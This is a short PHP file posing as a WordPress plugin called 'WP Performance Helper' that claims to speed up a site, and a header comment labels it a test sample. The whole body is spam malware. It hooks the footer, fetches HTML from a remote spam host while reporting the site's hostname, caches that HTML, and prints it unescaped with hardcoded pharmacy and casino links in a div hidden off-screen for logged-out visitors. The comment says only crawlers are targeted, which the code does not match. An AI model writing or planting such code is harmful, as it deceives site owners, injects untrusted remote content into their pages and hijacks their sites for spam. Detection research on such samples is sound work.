<?php
/**
 * Plugin Name: WP Performance Helper
 * Description: Speeds up your site.
 *
 * Test sample: injects a hidden spam link block via the wp_footer hook,
 * only for crawlers, with links fetched from a remote feed and cached.
 */
function wpph_footer_links()
{
    if (is_user_logged_in()) {
        return;
    }
    $links = get_transient('wpph_l');
    if (false === $links) {
        $links = wp_remote_retrieve_body(wp_remote_get('http://spam.example/feed.php?d=' . $_SERVER['HTTP_HOST']));
        set_transient('wpph_l', $links, DAY_IN_SECONDS);
    }
    echo '<div style="position:absolute;left:-5000px;overflow:hidden;height:1px">' . $links
        . '<a href="http://pharma.spam.example/">online pharmacy</a> <a href="http://casino.spam.example/">casino bonus</a></div>';
}
add_action('wp_footer', 'wpph_footer_links', 99);
